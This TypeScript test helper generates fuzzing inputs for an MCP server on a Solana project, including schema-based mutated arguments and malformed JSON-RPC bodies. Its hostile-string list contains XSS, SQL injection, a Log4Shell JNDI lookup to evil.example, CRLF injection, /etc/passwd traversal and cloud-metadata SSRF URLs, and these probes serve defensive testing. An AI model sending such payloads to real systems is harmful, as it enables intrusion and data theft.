/**
 * Generators for fuzzing `/mcp`: a seeded random source, hostile values, arguments derived from
 * each tool's JSON Schema (valid ones, then mutated), malformed JSON-RPC, and a checker that says
 * whether an answer is a well-formed JSON-RPC answer. Deterministic for a given seed.
 *
 * Values that would be valid Solana addresses or signatures come only from the seeded pool: the
 * embedded chain may try to fetch unknown accounts from a remote cluster, which is not what is
 * being tested here.
 */

export type Rng = () => number;

/** mulberry32: small, fast, good enough for test data. */
export function seededRng(seed: number): Rng {
  let state = seed >>> 0;
  return () => {
    state = (state + 0x6d2b79f5) >>> 0;
    let t = state;
    t = Math.imul(t ^ (t >>> 15), t | 1);
    t ^= t + Math.imul(t ^ (t >>> 7), t | 61);
    return ((t ^ (t >>> 14)) >>> 0) / 4294967296;
  };
}

export function pick<T>(rng: Rng, items: readonly T[]): T {
  return items[Math.floor(rng() * items.length)] as T;
}

export function int(rng: Rng, min: number, max: number): number {
  return min + Math.floor(rng() * (max - min + 1));
}

/** Values that are valid for the chain, by kind, from the seeded demo. */
export interface Pools {
  addresses: string[];
  signatures: string[];
  /** A base64 transaction the chain can simulate, if any. */
  transactions: string[];
}

/** Strings that have broken parsers, loggers, URL builders and terminals before. */
export function hostileStrings(pools: Pools): string[] {
  const address = pools.addresses[0] ?? "11111111111111111111111111111111";
  return [
    "",
    " ",
    "\u0000",
    "null",
    "undefined",
    "NaN",
    "-1",
    "18446744073709551616",
    "0x41",
    "\u202eRTL override",
    "zero\u200bwidth",
    "\ufeffBOM",
    "\ud800 lone surrogate",
    "🦀🔥".repeat(500),
    "é".normalize("NFD"),
    "a".repeat(100_000),
    "<script>alert(1)</script>",
    "' OR 1=1 --",
    // biome-ignore lint/suspicious/noTemplateCurlyInString: a Log4Shell probe, literally
    "${jndi:ldap://evil.example/a}",
    "{{7*7}}",
    "%00%0d%0aSet-Cookie: x=1",
    "\r\nX-Injected: 1",
    "../../../../etc/passwd",
    "http://evil.example/",
    "https://169.254.169.254/latest/meta-data/",
    "http://127.0.0.1:1/",
    "file:///etc/passwd",
    "//evil.example",
    "localnet,http://evil.example",
    "mainnet ",
    "MAINNET",
    "localnet\u0000",
    `${address}?api-key=x`,
    `${address}@evil.example`,
    `http://evil.example/${address}`,
    `${address}\n${address}`,
    // Cyrillic "А" in place of a Latin one: looks like an address, is not base58.
    address.replace(/[A-Z]/, "А"),
    address.slice(0, -1),
    `${address}1`,
    "0OIl".repeat(11),
  ];
}

/** Values of every JSON type, and extremes within types. */
export function hostileValues(rng: Rng, pools: Pools): unknown[] {
  const strings = hostileStrings(pools);
  return [
    null,
    true,
    false,
    0,
    -0,
    -1,
    1.5,
    2 ** 53 + 1,
    -(2 ** 63),
    1e308,
    -1e308,
    5e-324,
    pick(rng, strings),
    pick(rng, strings),
    [],
    [null],
    {},
    { toString: "x", valueOf: 1 },
    JSON.parse('{"__proto__":{"polluted":true},"constructor":{"prototype":{"polluted":true}}}'),
    Array.from({ length: 10_000 }, (_, i) => i),
    Array.from({ length: 200 }, () => pick(rng, pools.addresses)),
    nested(200),
  ];
}

function nested(depth: number): unknown {
  let value: unknown = "bottom";
  for (let i = 0; i < depth; i++) value = i % 2 ? [value] : { a: value };
  return value;
}

export interface JsonSchema {
  type?: string | string[];
  enum?: unknown[];
  const?: unknown;
  properties?: Record<string, JsonSchema>;
  required?: string[];
  items?: JsonSchema;
  minItems?: number;
  maxItems?: number;
  minimum?: number;
  maximum?: number;
  exclusiveMinimum?: number;
  exclusiveMaximum?: number;
  minLength?: number;
  maxLength?: number;
  anyOf?: JsonSchema[];
  oneOf?: JsonSchema[];
  default?: unknown;
}

/** A value that fits `schema`, using the pools for strings named like addresses or signatures. */
export function validValue(schema: JsonSchema, name: string, rng: Rng, pools: Pools): unknown {
  const variants = schema.anyOf ?? schema.oneOf;
  if (variants?.length) return validValue(pick(rng, variants), name, rng, pools);
  if (schema.const !== undefined) return schema.const;
  if (schema.enum?.length) return pick(rng, schema.enum);
  const type = Array.isArray(schema.type) ? pick(rng, schema.type) : schema.type;
  switch (type) {
    case "string":
      return stringFor(name, rng, pools);
    case "integer":
    case "number": {
      const min = schema.minimum ?? (schema.exclusiveMinimum !== undefined ? schema.exclusiveMinimum + 1 : 0);
      const max = schema.maximum ?? (schema.exclusiveMaximum !== undefined ? schema.exclusiveMaximum - 1 : min + 100);
      return int(rng, Math.ceil(min), Math.floor(Math.min(max, min + 1000)));
    }
    case "boolean":
      return rng() < 0.5;
    case "array": {
      const min = schema.minItems ?? 1;
      const max = Math.min(schema.maxItems ?? 5, min + 5);
      return Array.from({ length: int(rng, min, max) }, () => validValue(schema.items ?? {}, name, rng, pools));
    }
    case "object":
      return validArguments(schema, rng, pools);
    case "null":
      return null;
    default:
      return stringFor(name, rng, pools);
  }
}

function stringFor(name: string, rng: Rng, pools: Pools): string {
  const lower = name.toLowerCase();
  if (lower.includes("signature") || lower === "before" || lower === "until") return pick(rng, pools.signatures);
  if (lower.includes("transaction") && pools.transactions.length > 0) return pick(rng, pools.transactions);
  return pick(rng, pools.addresses);
}

/** Required properties always, optional ones half the time. */
export function validArguments(schema: JsonSchema, rng: Rng, pools: Pools): Record<string, unknown> {
  const args: Record<string, unknown> = {};
  const required = new Set(schema.required ?? []);
  for (const [name, property] of Object.entries(schema.properties ?? {})) {
    if (required.has(name) || rng() < 0.5) args[name] = validValue(property, name, rng, pools);
  }
  return args;
}

/** Values that break the property's type or range: wrong types, out of range, hostile strings. */
export function invalidValuesFor(schema: JsonSchema, rng: Rng, pools: Pools): unknown[] {
  const values: unknown[] = [...hostileValues(rng, pools)];
  if (schema.minimum !== undefined) values.push(schema.minimum - 1, schema.minimum - 0.5);
  if (schema.maximum !== undefined) values.push(schema.maximum + 1, schema.maximum + 0.5, Number.MAX_SAFE_INTEGER);
  if (schema.maxItems !== undefined && schema.items) {
    values.push(Array.from({ length: schema.maxItems + 1 }, () => validValue(schema.items ?? {}, "", rng, pools)));
  }
  if (schema.minItems !== undefined && schema.minItems > 0) values.push([]);
  if (schema.enum) values.push(`${String(schema.enum[0])}x`, String(schema.enum[0]).toUpperCase(), schema.enum);
  return values;
}

/**
 * Arguments for one fuzzed call of a tool: usually valid ones with one or two properties replaced
 * by hostile values; sometimes a required property dropped, an unknown one added, or the
 * arguments not an object at all.
 */
export function fuzzArguments(schema: JsonSchema, rng: Rng, pools: Pools): unknown {
  const roll = rng();
  if (roll < 0.04) return pick(rng, [null, [], "args", 42, true, [validArguments(schema, rng, pools)]]);
  const args = validArguments(schema, rng, pools);
  const names = Object.keys(schema.properties ?? {});
  if (roll < 0.1 && (schema.required?.length ?? 0) > 0) {
    delete args[pick(rng, schema.required ?? [])];
    return args;
  }
  if (roll < 0.16) {
    args[pick(rng, ["url", "rpcUrl", "endpoint", "__proto__", "constructor", "", "🦀"])] = "http://evil.example/";
    return args;
  }
  if (roll < 0.22) return args; // valid, to keep the happy path in the mix
  const mutations = rng() < 0.7 ? 1 : 2;
  for (let i = 0; i < mutations && names.length > 0; i++) {
    const name = pick(rng, names);
    args[name] = pick(rng, invalidValuesFor(schema.properties?.[name] ?? {}, rng, pools));
  }
  return args;
}

/** Bodies that are not valid JSON, or JSON that is not a JSON-RPC message an MCP server takes. */
export function malformedBody(rng: Rng, nextId: () => number): string {
  const id = nextId();
  const valid = JSON.stringify({ jsonrpc: "2.0", id, method: "tools/list" });
  const cases: (() => string)[] = [
    () => "",
    () => " ",
    () => "garbage",
    () => "{",
    () => valid.slice(0, int(rng, 1, valid.length - 1)),
    () => `${valid}${valid}`,
    () => `${valid},`,
    () => `\ufeff${valid}`,
    () => "{'jsonrpc':'2.0'}",
    () => '{"jsonrpc":"2.0","id":1,"method":"ping",}',
    () => "NaN",
    () => "[",
    () => "[]",
    () => "[[]]",
    () => "null",
    () => "true",
    () => "12345678901234567890",
    () => '"string"',
    () => "{}",
    () => JSON.stringify({ jsonrpc: "1.0", id, method: "ping" }),
    () => JSON.stringify({ jsonrpc: 2, id, method: "ping" }),
    () => JSON.stringify({ id, method: "ping" }),
    () => JSON.stringify({ jsonrpc: "2.0", id: {}, method: "ping" }),
    () => JSON.stringify({ jsonrpc: "2.0", id: [id], method: "ping" }),
    () => JSON.stringify({ jsonrpc: "2.0", id: true, method: "ping" }),
    () => JSON.stringify({ jsonrpc: "2.0", id: null, method: "ping" }),
    () => JSON.stringify({ jsonrpc: "2.0", id: 1.5, method: "ping" }),
    () => JSON.stringify({ jsonrpc: "2.0", id, method: 42 }),
    () => JSON.stringify({ jsonrpc: "2.0", id, method: null }),
    () => JSON.stringify({ jsonrpc: "2.0", id, method: "" }),
    () => JSON.stringify({ jsonrpc: "2.0", id, method: "ping", params: "x" }),
    () => JSON.stringify({ jsonrpc: "2.0", id, method: "ping", params: [1, 2] }),
    () => JSON.stringify({ jsonrpc: "2.0", id, result: {} }),
    () => JSON.stringify({ jsonrpc: "2.0", id, error: { code: 1, message: "x" } }),
    () => JSON.stringify({ jsonrpc: "2.0", id, result: {}, error: { code: 1, message: "x" } }),
    () => JSON.stringify({ jsonrpc: "2.0", id, method: "ping", extra: "🦀".repeat(100) }),
    () => "[".repeat(int(rng, 100, 100_000)) + "]".repeat(int(rng, 0, 100)),
    () => `${'{"a":'.repeat(int(rng, 100, 50_000))}1${"}".repeat(int(rng, 0, 100))}`,
    () =>
      `{"jsonrpc":"2.0","id":${id},"method":"tools/call","params":{"name":"get_balance","arguments":${"[".repeat(5000)}${"]".repeat(5000)}}}`,
    () => JSON.stringify({ jsonrpc: "2.0", id, method: "ping", params: { _meta: nested(300) } }),
    () =>
      JSON.stringify(
        Array.from({ length: int(rng, 2, 50) }, () => ({
          jsonrpc: "2.0",
          method: "notifications/cancelled",
          params: { requestId: 1 },
        })),
      ),
    () => JSON.stringify([{ jsonrpc: "2.0", id, method: "ping" }, "junk"]),
    () =>
      JSON.stringify([
        { jsonrpc: "2.0", id, method: "ping" },
        { jsonrpc: "2.0", id, method: "ping" },
      ]),
    () => `{"jsonrpc":"2.0","id":${id},"method":"ping","params":{"s":"\\ud800\\udfff\\u0000\\u202e"}}`,
    () => Buffer.from([0xff, 0xfe, 0xfd, 0x00, 0x7b]).toString("latin1"),
  ];
  return pick(rng, cases)();
}

/** A JSON-RPC request to a known or unknown method (or one of `moreMethods`) with random params. */
export function randomRequest(rng: Rng, id: number, pools: Pools, moreMethods: readonly string[] = []): unknown {
  const methods = [
    ...moreMethods,
    "ping",
    "tools/list",
    "tools/call",
    "resources/list",
    "resources/templates/list",
    "resources/read",
    "prompts/list",
    "prompts/get",
    "completion/complete",
    "logging/setLevel",
    "initialize",
    "tasks/get",
    "tasks/list",
    "sampling/createMessage",
    "notifications/initialized",
    "rpc.discover",
    "__proto__",
    "constructor",
    "tools/call/../../admin",
    pick(rng, hostileStrings(pools)),
  ];
  const method = pick(rng, methods);
  const paramsCases: unknown[] = [
    undefined,
    {},
    { name: pick(rng, ["get_balance", "nope", "", "__proto__"]), arguments: pick(rng, hostileValues(rng, pools)) },
    {
      uri: pick(rng, [
        "solana://account/x",
        `solana://mainnet/account/${pools.addresses[0]}`,
        "solana://network/status",
        ...hostileStrings(pools).slice(18, 30),
      ]),
    },
    {
      uri: `solana://${pick(rng, ["http:%2F%2Fevil.example", "localnet", "mainnet@evil.example", "evil.example:80"])}/account/${pick(rng, pools.addresses)}`,
    },
    {
      name: pick(rng, ["analyze_wallet", "explain_transaction", "nope"]),
      arguments: { address: pick(rng, hostileStrings(pools)) },
    },
    {
      ref: { type: "ref/prompt", name: "analyze_wallet" },
      argument: { name: "network", value: pick(rng, hostileStrings(pools)) },
    },
    { level: pick(rng, ["debug", "emergency", "bogus", "", null, 7]) },
    { cursor: pick(rng, hostileStrings(pools)) },
    { taskId: pick(rng, hostileStrings(pools)) },
    pick(rng, hostileValues(rng, pools)),
  ];
  const params = pick(rng, paramsCases);
  return params === undefined ? { jsonrpc: "2.0", id, method } : { jsonrpc: "2.0", id, method, params };
}

/** MCP 2026-07-28: the revision, and the `_meta` envelope keys every request carries (SEP-2575). */
export const STATELESS_REVISION = "2026-07-28";
export const PROTOCOL_VERSION_META = "io.modelcontextprotocol/protocolVersion";
export const CLIENT_CAPABILITIES_META = "io.modelcontextprotocol/clientCapabilities";

export function statelessEnvelope(revision: unknown = STATELESS_REVISION): Record<string, unknown> {
  return { [PROTOCOL_VERSION_META]: revision, [CLIENT_CAPABILITIES_META]: {} };
}

/**
 * `message` as a 2026-07-28 client sends it: the envelope merged into `params._meta` (params
 * created when absent). A message that is not an object, or whose params are not one, is
 * returned unchanged: it can claim the revision only by its header.
 */
export function withEnvelope(message: unknown, envelope: unknown = statelessEnvelope()): unknown {
  if (typeof message !== "object" || message === null || Array.isArray(message)) return message;
  const params = (message as { params?: unknown }).params;
  if (params === undefined) return { ...message, params: { _meta: envelope } };
  if (typeof params !== "object" || params === null || Array.isArray(params)) return message;
  const meta = (params as { _meta?: unknown })._meta;
  const merged =
    typeof meta === "object" && meta !== null && !Array.isArray(meta) && typeof envelope === "object"
      ? { ...meta, ...envelope }
      : envelope;
  return { ...message, params: { ...params, _meta: merged } };
}

/** Which params field the `Mcp-Name` header mirrors, per method (SEP-2243). */
const NAMED_BY: Record<string, string> = {
  "tools/call": "name",
  "prompts/get": "name",
  "resources/read": "uri",
  "tasks/get": "taskId",
  "tasks/update": "taskId",
  "tasks/cancel": "taskId",
};

/** Printable ASCII without surrounding blanks: what a header carries as it is. */
const HEADER_SAFE = /^[\x21-\x7e](?:[\x20-\x7e]*[\x21-\x7e])?$/;

/** A value for `Mcp-Name`: as it is when header-safe, else in the Base64 sentinel form. */
export function mcpNameHeader(value: string): string {
  return HEADER_SAFE.test(value) ? value : `=?base64?${Buffer.from(value, "utf8").toString("base64")}?=`;
}

/**
 * The SEP-2243 headers a 2026-07-28 client sends for `message`: MCP-Protocol-Version, Mcp-Method,
 * and Mcp-Name for the methods that name a tool, prompt, resource or task. A method that cannot
 * be a header value gets no Mcp-Method (the server must then refuse the request).
 */
export function statelessHeaders(message: unknown, revision = STATELESS_REVISION): Record<string, string> {
  const headers: Record<string, string> = { "mcp-protocol-version": revision };
  const { method, params } = (typeof message === "object" && message !== null ? message : {}) as {
    method?: unknown;
    params?: Record<string, unknown>;
  };
  if (typeof method !== "string") return headers;
  if (HEADER_SAFE.test(method)) headers["mcp-method"] = method;
  const field = Object.hasOwn(NAMED_BY, method) ? NAMED_BY[method] : undefined;
  const named = field && typeof params === "object" && params !== null ? params[field] : undefined;
  if (typeof named === "string" && named.length < 4000) headers["mcp-name"] = mcpNameHeader(named);
  return headers;
}

export interface JsonRpcAnswer {
  jsonrpc: "2.0";
  id: string | number | null;
  result?: Record<string, unknown>;
  error?: { code: number; message: string; data?: unknown };
}

/** Why `value` is not a well-formed JSON-RPC 2.0 response, or undefined when it is. */
export function responseProblem(value: unknown): string | undefined {
  if (typeof value !== "object" || value === null || Array.isArray(value)) return "not an object";
  const answer = value as Record<string, unknown>;
  if (answer.jsonrpc !== "2.0") return "jsonrpc is not 2.0";
  if (!("id" in answer)) return "no id";
  if (answer.id !== null && typeof answer.id !== "string" && typeof answer.id !== "number") return "bad id";
  const hasResult = "result" in answer;
  const hasError = "error" in answer;
  if (hasResult === hasError) return "not exactly one of result and error";
  if (hasError) {
    const error = answer.error as Record<string, unknown> | null;
    if (typeof error !== "object" || error === null) return "error is not an object";
    if (!Number.isInteger(error.code)) return "error.code is not an integer";
    if (typeof error.message !== "string" || error.message.length === 0) return "error.message is not a string";
  } else if (typeof answer.result !== "object" || answer.result === null) {
    return "result is not an object";
  }
  return undefined;
}

/** The JSON-RPC messages in an SSE body (`data:` lines of `message` events). */
export function sseMessages(text: string): unknown[] {
  const messages: unknown[] = [];
  for (const block of text.split("\n\n")) {
    const data = block
      .split("\n")
      .filter((line) => line.startsWith("data:"))
      .map((line) => line.slice(5).trimStart())
      .join("\n");
    if (data) messages.push(JSON.parse(data));
  }
  return messages;
}

/** Runs `task` over `items` with at most `concurrency` in flight. */
export async function pool<T>(
  items: readonly T[],
  concurrency: number,
  task: (item: T, worker: number) => Promise<void>,
): Promise<void> {
  let next = 0;
  await Promise.all(
    Array.from({ length: concurrency }, async (_, worker) => {
      while (next < items.length) {
        const item = items[next++] as T;
        await task(item, worker);
      }
    }),
  );
}
